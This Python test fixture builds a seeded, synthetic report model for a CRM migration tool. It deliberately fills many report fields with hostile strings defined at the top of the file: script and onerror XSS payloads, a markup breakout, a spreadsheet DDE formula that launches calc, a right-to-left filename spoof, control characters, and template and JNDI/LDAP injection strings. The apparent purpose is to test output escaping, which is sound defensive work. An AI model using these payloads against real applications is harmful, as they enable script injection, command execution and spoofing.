"""A rich, seeded model of figures: every section filled, Turkish and German names, and hostile text in every place."""

import random

from crm_migrate.workspace.cause_figures import Maker, Place
from crm_migrate.workspace.coverage_figures import ColumnFigure, RelationFigure
from crm_migrate.workspace.day_figures import DayFigure
from crm_migrate.workspace.figures import (
    AccountingLine,
    Bridge,
    Cause,
    ConsentCell,
    ControlFigure,
    Duration,
    Example,
    ExceptionGroup,
    FieldFigure,
    Figures,
    Gate,
    GroupFigure,
    Header,
    KpiFigure,
    LearnedFigure,
    LinkFigure,
    MergedCluster,
    MergeFigure,
    RuleScore,
    SourceFigure,
    TargetSet,
    Term,
)
from crm_migrate.workspace.follow_up import FollowUp, Rehearsal
from crm_migrate.workspace.night_figures import Night, Share, WatchFigure

SCRIPT = "<script>document.title='OWNED'</script>"
IMAGE = "<img src=x onerror=\"document.title='OWNED'\">"
BREAKOUT = "\"' onmouseover=alert(1) x='</style></script><svg onload=alert(1)>"
FORMULA = "=cmd|'/C calc'!A0"
RIGHT_TO_LEFT = "rechnung\u202egnp.exe"
CONTROLS = "a\x00b\x1b[31mred\x07\x9b0m\u2028line\ufeff"
LONG = "çok uzun bir açıklama " * 5_000
TEMPLATE = "{{ 7 * 7 }} {% include 'x' %} ${jndi:ldap://x.example/a}"
HOSTILE = (SCRIPT, IMAGE, BREAKOUT, FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", RIGHT_TO_LEFT, CONTROLS, LONG, TEMPLATE)

STATES = (
    "created",
    "updated",
    "unchanged",
    "folded",
    "merged",
    "enrichment",
    "absent",
    "excluded",
    "rejected",
    "held",
    "failed",
)
NAMES = ("Ayşe Yılmaz", "İbrahim Işık", "Jürgen Groß", "Zoë Müller-Lüdenscheidt", "Dewi", "Şükrü Öztürk")


def header(run: str = "2025-03-14T20-58_mock3") -> Header:
    """The only part that differs between two runs."""
    return Header(
        run=run,
        started="2025-03-14T20:58:11Z",
        finished="2025-03-14T21:07:42Z",
        tool_version="0.1.0",
        durations=(Duration(stage="extract", seconds=3.2), Duration(stage="load", seconds=428.75)),
    )


def line(source: str, name: str, read: int, extra: int, unexplained: int = 0, **states: int) -> AccountingLine:
    """An accounting line with all states."""
    return AccountingLine(
        source=source,
        object=name,
        read=read,
        extra=extra,
        states={state: states.get(state, 0) for state in STATES},
        unexplained=unexplained,
    )


def examples(seed: int, count: int) -> tuple[Example, ...]:
    """Examples of personal values, a hostile one now and then."""
    chance = random.Random(seed)
    found = []
    for i in range(count):
        name = chance.choice(NAMES)
        hostile = HOSTILE[(seed + i) % len(HOSTILE)] if i % 3 == 2 else name
        found.append(
            Example(
                record=f"sheet:{chance.randint(1, 20_000)}",
                source=f"{hostile} ",
                expected=hostile,
                actual=hostile.replace("ı", "i").replace("e", "3"),
                message=f"‘{hostile}’ differs",
            )
        )
    return tuple(found)


def figures(*, locale: str = "en", hostile: bool = True, run: str = "2025-03-14T20-58_mock3") -> Figures:
    """The whole model. Every identity holds; one gate failed and is accepted, so the verdict is amber."""
    return Figures(
        header=header(run),
        project="anadolu",
        title="Anadolu Makine Sanayi A.Ş." + (f" {SCRIPT}" if hostile else ""),
        environment="uat",
        target="sql:crm-uat.example",
        locale=locale,
        plan_hash="sha256:" + "9f2c" * 16,
        mapping_hash="sha256:" + "11ab" * 16,
        decisions_hash="sha256:" + "77e0" * 16,
        verdict="GO WITH ACCEPTED EXCEPTIONS",
        sentence="Of 18,412 source rows, 17,903 arrived, 311 were merged, 140 were left out by decision, "
        "46 were rejected and 12 wait for you. Every euro is explained.",
        sources=_sources(hostile),
        columns=_columns(hostile),
        relations=(
            RelationFigure(
                source="sheet",
                column="",
                parent="accounts",
                fate="linked",
                filled=11_602,
                declared=True,
                into=("deals.company",),
            ),
            RelationFigure(
                source="legacy",
                column="partner_id",
                parent="sheet",
                fate="unspoken",
                filled=812,
                declared=False,
                found=790,
                looked_at=801,
            ),
        ),
        accounting=_accounting(),
        target_sets=_target_sets(),
        bridges=_bridges(),
        fields=_fields(hostile),
        links=_links(),
        kpis=_kpis(),
        controls=_controls(),
        exceptions=_exceptions(hostile),
        merges=_merges(),
        clusters=_clusters(hostile),
        learned=_learned(),
        groups=_groups(),
        consent=_consent(),
        follow_up=FollowUp(rehearsals=_rehearsals()),
        days=_days(),
        watch=_watch(),
        owners=(("Ayşe Y.", "ayse.yilmaz@anadolu.example", 812), ("Former employee", "migration fallback", 37)),
        gates=_gates(),
        scores=_scores(),
        decisions=(
            (
                "D-004",
                "data_steward",
                "2025-03-10",
                "Deals closed before 2015 stay behind" + (f" {IMAGE}" if hostile else ""),
                140,
            ),
        ),
        sign_off=("sales_director", "data_steward", "migration_lead"),
        not_checked=(
            "Attachments were not compared.",
            "Field `notes` is write-only in the target." + (f" {BREAKOUT}" if hostile else ""),
        ),
    )


def _sources(hostile: bool) -> tuple[SourceFigure, ...]:
    return (
        SourceFigure(
            source="sheet",
            path="musteriler.csv",
            sha256="ab" * 32,
            bytes=1_482_117,
            records=12_000,
            quarantined=3,
            counted=12_003,
            count_method="quote-parity scan of the bytes",
            encoding="windows-1254",
            delimiter=";",
            evidence=("Tarih: day first (12,000 of 12,000 values)",),
        ),
        SourceFigure(
            source="legacy",
            path="crm.contacts",
            sha256="cd" * 32,
            bytes=9_001,
            records=6_412,
            quarantined=0,
            counted=None,
            count_method="none: one snapshot of a table",
        ),
    )


def _columns(hostile: bool) -> tuple[ColumnFigure, ...]:
    rows = {"source": "sheet", "rows": 12_000}
    return (
        ColumnFigure(**rows, column="Firma", fate="mapped", filled=11_960, into=("accounts.name", "deals.company")),
        ColumnFigure(**rows, column="Notlar 2", fate="unspoken", filled=17),
        ColumnFigure(
            **rows, column="Eski kod", fate="dropped", filled=4_100, why=FORMULA if hostile else "no longer used"
        ),
        ColumnFigure(source="legacy", rows=6_412, column="fax", fate="archived", filled=3),
    )


def _accounting() -> tuple[AccountingLine, ...]:
    return (
        line("sheet", "accounts", 12_000, 0, created=4_100, folded=7_860, excluded=40),
        line("sheet", "contacts", 12_000, 17, created=11_490, updated=112, merged=299, absent=60, rejected=44, held=12),
        line("legacy", "contacts", 6_412, 0, created=5_700, unchanged=600, merged=12, excluded=98, rejected=2),
        line("sheet", "deals", 12_000, 0, created=1_247, absent=10_744, held=8, failed=1),
    )


def _target_sets() -> tuple[TargetSet, ...]:
    return (
        TargetSet(
            object="contacts",
            before=712,
            after=17_905,
            created=17_190,
            updated=112,
            unchanged=600,
            unexpected=3,
            vanished=0,
            unexpected_ids=("0031", "0032", "0033"),
        ),
        TargetSet(
            object="deals", before=0, after=1_247, created=1_247, updated=0, unchanged=0, unexpected=0, vanished=0
        ),
    )


def _bridges() -> tuple[Bridge, ...]:
    return (
        Bridge(
            object="deals",
            measure="amount",
            currency="EUR",
            source_total="186420.50",
            source_lines=1_256,
            terms=(
                Term(
                    name="excluded",
                    amount="-112500.00",
                    lines=1,
                    change=-1,
                    examples=(Example(record="sheet:17", source="112500.00", personal=False),),
                ),
                Term(name="held", amount="-6300.00", lines=8, change=-8),
                Term(name="rounding", amount="0.00", lines=0),
            ),
            target_total="67620.50",
            target_lines=1_247,
            unexplained="0.00",
        ),
        Bridge(
            object="deals",
            measure="amount",
            currency="TRY",
            source_total="-1250000.5",
            source_lines=3,
            terms=(Term(name="fx", amount="1250100.75", lines=3),),
            target_total="100.25",
            target_lines=3,
            unexplained="0.00",
            unreadable=2,
        ),
    )


def _fields(hostile: bool) -> tuple[FieldFigure, ...]:
    shifted = tuple(
        Example(
            record=f"sheet:{i}",
            source="05.03.2025",
            expected="2025-03-05",
            actual="2025-03-04",
            message="one day early",
            personal=False,
        )
        for i in range(36)
    )
    return (
        FieldFigure(
            object="deals",
            field="close_date",
            type="date",
            records=1_247,
            compared=1_240,
            matched=1_204,
            classes={"match": 1_204, "different": 36, "both_empty": 7},
            causes=(
                Cause(
                    cause="date -1 day",
                    cls="different",
                    count=36,
                    of=1_240,
                    confidence="medium",
                    places=(
                        Place(
                            dimension="owner",
                            field="owner",
                            value="team north",
                            count=34,
                            of=210,
                            elsewhere=2,
                            elsewhere_of=1_030,
                        ),
                        Place(
                            dimension="batch", value="deals/create/7", count=36, of=200, elsewhere=0, elsewhere_of=1_040
                        ),
                    ),
                    makers=(Maker(who="target", count=36),),
                    fix="Send date-only values, or 12:00.",
                    examples=shifted,
                ),
            ),
            changed_from_source=1_240,
        ),
        FieldFigure(
            object="contacts",
            field="full_name",
            type="person_name",
            records=17_902,
            compared=17_902,
            matched=17_702,
            classes={"match": 17_000, "match_normalised": 702, "different": 150, "lost": 50},
            causes=(
                Cause(
                    cause="encoding",
                    cls="different",
                    count=150,
                    fix="Send UTF-8.",
                    examples=examples(7, 50) if hostile else examples(7, 2),
                ),
                Cause(
                    cause="lost",
                    cls="lost",
                    count=50,
                    examples=(Example(record="sheet:9", source="Ayşe", expected="Ayşe", actual=None),),
                ),
            ),
        ),
        FieldFigure(
            object="contacts",
            field="email",
            type="email",
            records=17_902,
            compared=17_100,
            matched=17_100,
            classes={"match": 17_100, "both_empty": 802},
            flags={"shared_mailbox": 12},
        ),
        FieldFigure(
            object="deals", field="stage", type="choice", records=12, compared=12, matched=12, classes={"match": 12}
        ),
    )


def _links() -> tuple[LinkFigure, ...]:
    return (
        LinkFigure(
            object="contacts",
            field="account",
            parent="accounts",
            expected=17_300,
            present=17_300,
            missing=0,
            wrong=0,
            extra=0,
            orphans=0,
        ),
        LinkFigure(
            object="deals",
            field="contact",
            parent="contacts",
            expected=1_247,
            present=1_244,
            missing=1,
            wrong=2,
            extra=1,
            orphans=4,
            causes=(
                Cause(
                    cause="wrong parent",
                    cls="different",
                    count=2,
                    of=1_247,
                    confidence="seen",
                    makers=(Maker(who="load", rule="existing", count=2),),
                ),
            ),
            examples=(Example(record="sheet:88", expected="e-00017", actual="e-00018", personal=False),),
        ),
    )


def _kpis() -> tuple[KpiFigure, ...]:
    return (
        KpiFigure(
            name="open_pipeline",
            group="proposal",
            unit="EUR",
            source="70000.50",
            expected="67620.50",
            actual="67620.50",
            agrees=True,
        ),
        KpiFigure(
            name="open_pipeline", group="qualified", unit="EUR", source=None, expected="0", actual="0", agrees=True
        ),
        KpiFigure(
            name="mailable_people", group="", unit="", source="9120", expected="9118", actual="9117", agrees=False
        ),
        KpiFigure(
            name="customers", group="", unit="", source="40", expected="38", actual="41", agrees=True, explained="3"
        ),
    )


def _controls() -> tuple[ControlFigure, ...]:
    return (
        ControlFigure(
            name="open_pipeline",
            said="186420.50",
            unit="EUR",
            said_by="sales_director",
            of="source",
            expected="186420.50",
            actual="186420.50",
            agrees=True,
        ),
    )


def _exceptions(hostile: bool) -> tuple[ExceptionGroup, ...]:
    def group(
        code: str, severity: str, name: str, field: str, state: str, count: int, title: str, fix: str
    ) -> ExceptionGroup:
        return ExceptionGroup.model_validate(
            {
                "code": code,
                "severity": severity,
                "object": name,
                "source": "sheet",
                "field": field,
                "rule": f"{name}.{field}",
                "state": state,
                "count": count,
                "title": title,
                "fix": fix,
                "examples": examples(count, min(count, 50 if hostile else 3)) if field != "stage" else unmapped,
            }
        )

    unmapped = (Example(record="sheet:9", source="Angebot", message="no translation in value map stage: Angebot"),)

    return (
        group(
            "phone_no_country",
            "warning",
            "contacts",
            "phone",
            "",
            380,
            "A phone number names no country.",
            "Set `region:`.",
        ),
        group(
            "value_unmapped",
            "error",
            "deals",
            "stage",
            "held",
            8,
            "A value has no translation in its value map.",
            "Add it to the map.",
        ),
        group(
            "bad_email",
            "error",
            "contacts",
            "email",
            "rejected",
            44,
            f"No address: {IMAGE}" if hostile else "No address.",
            FORMULA if hostile else "Mend it.",
        ),
        group(
            "duplicate_review",
            "warning",
            "contacts",
            "",
            "held",
            12,
            "Two records may be one person.",
            "crm-migrate review",
        ),
        group(
            "excluded_rule",
            "note",
            "contacts",
            "",
            "excluded",
            98,
            "Left out by a rule of the mapping.",
            "Nothing, if the rule is right.",
        ),
    )


def _merges() -> tuple[MergeFigure, ...]:
    return (
        MergeFigure(
            object="contacts",
            rule="same_email",
            outcome="merge",
            pairs=290,
            records=601,
            examples=(Example(record="sheet:4", expected="ayse@anadolu.example", message="same e-mail"),),
        ),
        MergeFigure(object="contacts", rule="similar_name_and_phone", outcome="review", pairs=12, records=24),
        MergeFigure(object="contacts", rule="different_birth_date", outcome="vetoed", pairs=3, records=6),
    )


def _learned() -> tuple[LearnedFigure, ...]:
    return (
        LearnedFigure(
            object="contacts", mode="merge", limit="0.001", expected_wrong="0.41", merged_records=611, cut="0.9998",
            asked=37, vetoed=4,
        ),
        LearnedFigure(
            object="accounts", mode="propose", limit="0.0005", expected_wrong="0", merged_records=0, cut="", asked=9,
            vetoed=0,
        ),
    )  # fmt: skip


def _groups() -> tuple[GroupFigure, ...]:
    home = Example(record="sheet:4 + sheet:5", source="ayse@anadolu.example")
    return (
        GroupFigure(object="contacts", kind="household", groups=12, records=31, examples=(home,)),
        GroupFigure(object="contacts", kind="shared_mailbox", groups=3, records=14),
    )


def _clusters(hostile: bool) -> tuple[MergedCluster, ...]:
    return (
        MergedCluster(
            object="contacts",
            cluster="17",
            members=("sheet:4", "legacy:901"),
            why=("same_email: ayse@anadolu.example",),
            cells=(
                ("full_name", "Ayşe Yılmaz", "sheet:4", "most_complete"),
                ("email", "ayse@anadolu.example", "legacy:901", "trust"),
                ("phone", "+90 212 000 00 00", "legacy:901", "newest"),
                ("stage", SCRIPT if hostile else "new", "sheet:4", "trust"),
            ),
        ),
    )


def _consent() -> tuple[ConsentCell, ...]:
    return (
        ConsentCell(object="contacts", before="granted", after="granted", count=9_100),
        ConsentCell(object="contacts", before="granted", after="withdrawn", count=18),
        ConsentCell(object="contacts", before="unknown", after="unknown", count=8_400),
        ConsentCell(object="contacts", before="unknown", after="granted", count=4, without_evidence=2),
        ConsentCell(object="contacts", before="withdrawn", after="withdrawn", count=380),
        ConsentCell(object="suppressions", before="withdrawn", after="withdrawn", count=13),
        ConsentCell(object="suppressions", before="unknown", after="granted", count=1),
    )


def _days() -> tuple[DayFigure, ...]:
    lost = (("2014", 300, 0), ("2015", 560, 0), ("2025", 0, 860))
    return (
        DayFigure(
            object="contacts", field="created_at", created=True, step="year", bins=lost, undated=(2, 0),
            crowded=("2025-03-14", 0, 860),
        ),
        DayFigure(
            object="deals", field="close_date", created=False, step="month",
            bins=(("2025-01", 12, 12), ("2025-02", 0, 0), ("2025-03", 7, 7)),
        ),
    )  # fmt: skip


def _rehearsals() -> tuple[Rehearsal, ...]:
    """Two before and this one."""
    counts = {
        "arrived": 9_000, "waiting": 70, "unexplained": 0, "compared": 50_000, "matched": 49_000, "links_wrong": 12,
        "kpis_differ": 3, "consent_raised": 1, "unexpected": 4, "open": 410,
    }  # fmt: skip
    first = Rehearsal.model_validate({"run": "r1", "finished": "2025-03-01T10:00:00Z", "verdict": "NO-GO", **counts})
    second = first.model_copy(update={"run": "r2", "waiting": 30, "matched": 49_900, "links_wrong": 2, "open": 120})
    return first, second, second.model_copy(update={"run": "r3", "links_wrong": 0, "open": 61})


def _watch() -> WatchFigure:
    """A night of every kind."""
    said = {"limit": "0.005", "of": "18429"}
    shares = (
        Share.model_validate({"measure": "records", "scope": "", "deviating": "61", **said}),
        Share.model_validate({"measure": "values", "scope": "deals", "deviating": "12", **said}),
        Share.model_validate(
            {"measure": "money", "scope": "EUR", "deviating": "95.50", "of": "10000.00", "limit": "0.01"}
        ),
    )
    over = (shares[0].model_copy(update={"deviating": "310"}), *shares[1:])
    nights = (
        Night(day="2025-03-05", run="r1", does="delta", outcome="over", shares=over),
        Night(day="2025-03-06", run="r2", does="delta", outcome="stable", row=1, changed=("mapping",), shares=shares),
        Night(day="2025-03-07", run="r3", does="delta", outcome="same", row=1, unfinished=1, shares=shares),
        Night(day="2025-03-08", until="2025-03-09", outcome="missed"),
        Night(day="2025-03-10", outcome="failed", unfinished=2),
        Night(day="2025-03-11", run="r4", does="delta", outcome="blocked", blocked=("gone",), shares=shares),
        Night(day="2025-03-12", run="r5", does="reconcile", outcome="stable", row=1, edited=7, shares=shares),
    )
    return WatchFigure(under="0.005", needed=3, row=1, tonight=True, nights=nights)


def _gates() -> tuple[Gate, ...]:
    return (
        Gate(name="unexplained", scope="", limit="0", actual="0", passed=True),
        Gate(name="field_match", scope="contacts.email", limit="100 %", actual="100 % (17100 of 17100)", passed=True),
        Gate(
            name="rejected",
            scope="contacts",
            limit="0.2 %",
            actual="0.25 % (46 of 18429)",
            passed=False,
            accepted="D-004",
        ),
        Gate(name="held", scope="deals", limit="0", actual="8", passed=False, accepted="D-010"),
        Gate(name="orphans", scope="", limit="0", actual="4", passed=False, accepted="D-009"),
        Gate(name="stable", scope="", limit=">= 3 nights", actual="1", passed=False, accepted="accept:stable"),
    )


def _scores() -> tuple[RuleScore, ...]:
    return (
        RuleScore(object="contacts", field="email", rule="valid", of=17_902, passed_before=16_020, passed_after=17_100),
        RuleScore(object="contacts", field="phone", rule="e164", of=11_000, passed_before=312, passed_after=10_620),
    )
